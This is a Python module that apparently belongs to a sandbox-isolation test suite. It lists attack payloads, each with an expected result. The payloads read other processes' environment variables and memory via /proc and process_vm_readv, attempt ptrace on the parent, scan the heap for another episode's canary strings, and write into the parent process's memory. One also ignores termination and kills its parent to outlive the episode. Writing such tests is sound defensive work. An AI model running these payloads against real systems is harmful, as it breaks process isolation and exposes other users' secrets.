"""Attacks on other processes: their environment, their memory, another episode's state, the next one."""

from __future__ import annotations

from hostile.attack import HARMLESS, Attack, either

_READ = """
import ctypes, os
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def memory_of(pid, address, size):
    found = []
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(size)
    mine, theirs = Span(ctypes.addressof(buffer), size), Span(address, size)
    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) == size:
        found.append(buffer.raw.decode("latin-1"))
    try:
        descriptor = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        found.append(os.pread(descriptor, size, address).decode("latin-1"))
    except OSError:
        pass
    return found
"""

_WALK = """
import gc, re, sqlite3, sys
pattern = re.compile("MARK-[0-9a-f]{12}")
found = set()
def look(value):
    text = value.decode("latin-1") if isinstance(value, (bytes, bytearray)) else value
    if isinstance(text, str):
        found.update(pattern.findall(text))
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for key, value in list(thing.items()):
            look(key), look(value)
    elif isinstance(thing, (list, tuple, set, frozenset)):
        for value in list(thing):
            look(value)
    elif isinstance(thing, sqlite3.Connection):
        try:
            look(thing.serialize())
        except sqlite3.Error:
            pass
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        look(value)
    frame = frame.f_back
return {"loot": sorted(found)}
"""

_WRITE = """
import ctypes, math, os
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
value = ctypes.c_double(3.0)
mine, theirs = Span(ctypes.addressof(value), 8), Span(id(math.pi) + 16, 8)
if libc.process_vm_writev(os.getppid(), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) == 8:
    return {"breach": "wrote into the process from which the next one is forked"}
return {}
"""

_LINGER = """
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
if libc.prctl(1, 0, 0, 0, 0) == 0:
    os.kill(os.getppid(), signal.SIGKILL)
os.closerange(0, 64)
for _ in range(20):
    try:
        time.sleep(0.2)
    except BaseException:
        pass
os._exit(0)
"""

ATTACKS = (
    Attack(
        "the environment of another process",
        "environment",
        "return {'loot': open(f\"/proc/{aim['canary']}/environ\").read()}",
        aimed=True,
    ),
    Attack(
        "the environment of parent and factory",
        "environment",
        """
        import os
        for pid in (os.getppid(), aim["pid"], 1):
            try:
                return {"breach": f"{len(open(f'/proc/{pid}/environ').read())} bytes of {pid}"}
            except OSError:
                pass
        return {}
        """,
        HARMLESS,
    ),
    Attack(
        "the factory's memory",
        "other_memory",
        _READ + 'return {"loot": memory_of(aim["pid"], aim["address"], aim["size"])}',
        HARMLESS,
        aimed=True,
    ),
    Attack(
        "another episode's memory",
        "other_episodes",
        _READ + 'return {"loot": memory_of(*aim["sibling"])}',
        HARMLESS,
        aimed=True,
    ),
    Attack(
        "memory of a process in the sandbox",
        "other_memory",
        _READ + 'return {"loot": memory_of(*aim["sibling"])}',
        HARMLESS,
        aimed=True,
    ),
    Attack(
        "trace the parent",
        "other_memory",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for request, pid in ((16, os.getppid()), (0x4206, os.getppid()), (0x4206, aim["sibling"][0]), (0, 0)):
            if libc.ptrace(request, pid, 0, 0) == 0:
                return {"breach": f"ptrace {request}"}
        return {}
        """,
        HARMLESS,
    ),
    Attack("walk the heap for another episode", "other_episodes", _WALK, HARMLESS, aimed=True),
    Attack(
        "query for another episode",
        "other_episodes",
        "return {'loot': ctx.db.rows('SELECT * FROM products')}",
        HARMLESS,
        script="return {'loot': call('products')}",
        aimed=True,
    ),
    Attack("write into the parent's memory", "next_episode", _WRITE, HARMLESS, aimed=True),
    Attack("stay alive after the episode", "leftovers", _LINGER, either("killed", "timeout"), aimed=True),
)
